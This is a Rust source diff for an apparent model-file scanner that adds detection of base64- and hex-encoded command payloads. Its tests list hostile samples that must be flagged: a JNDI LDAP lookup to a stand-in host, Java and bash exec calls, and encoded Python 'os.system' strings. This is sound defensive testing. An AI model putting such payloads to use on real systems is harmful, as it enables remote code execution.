@@ -6,6 +6,7 @@
 //! code ([`modelaudit_pickle_policy::suspicious_text`]); paths alone, which training parameters are full of, do not. A text that is JSON
 //! is looked at string by string.
 
+mod encoded;
 mod runs;
 
 use modelaudit_json::{Document, TreeLimits};
@@ -64,13 +65,21 @@ pub fn judge(text: &str) -> Option<Found> {
 /// Judges one string.
 fn judge_string(text: &str) -> Option<Found> {
     let found = |what| Found { what, text: text.to_owned() };
+    // Most texts of a large model are names: without any of these a text is no command and no call.
+    let is_name = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b',');
+    if text.bytes().all(is_name) && text.len() < encoded::SHORTEST {
+        return None;
+    }
     if let Some(what) = suspicious_text(text).filter(|what| *what != "a path of the system") {
         return Some(found(what));
     }
     // The bound keeps the cost of a hostile megabyte low; a payload shows itself early.
     let end = (0..=text.len().min(64 << 10)).rev().find(|end| text.is_char_boundary(*end)).unwrap_or(0);
     let head = text.get(..end).unwrap_or_default();
-    JAVA_PIECES.iter().find(|(piece, _)| head.contains(piece)).map(|(_, what)| found(what))
+    if let Some((_, what)) = JAVA_PIECES.iter().find(|(piece, _)| head.contains(piece)) {
+        return Some(found(what));
+    }
+    encoded::payload(head).map(found)
 }
 
 /// A name out of the file as the element of a finding: printable, at most 120 characters.
@@ -97,6 +106,8 @@ mod tests {
             "java.lang.Runtime.getRuntime().exec(\"id\")",
             "${jndi:ldap://evil.example/a}",
             "[[\"bash -c 'id'\"]]",
+            "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2VjaG8gcHduZWQnKQ==",
+            "run: 696d706f7274206f733b206f732e73797374656d28276964272920",
         ] {
             assert!(judge(text).is_some(), "{text}");
         }
@@ -108,6 +119,9 @@ mod tests {
             "Cat or dog, at least that is what it says",
             "{\"_estimator_type\": \"classifier\"}",
             "{ not json",
+            "e0f8f76cc9518911f7f68ae26b8e9e28b1bd2a6d77219e82a1acfcedfccb8e6f",
+            "model.encoder.layers.0.self_attention.projection.weight.quantized",
+            "VGhpcyBpcyBqdXN0IGEgbm90ZSBhYm91dCB0aGUgbW9kZWw=",
         ] {
             assert_eq!(judge(text), None, "{text}");
         }
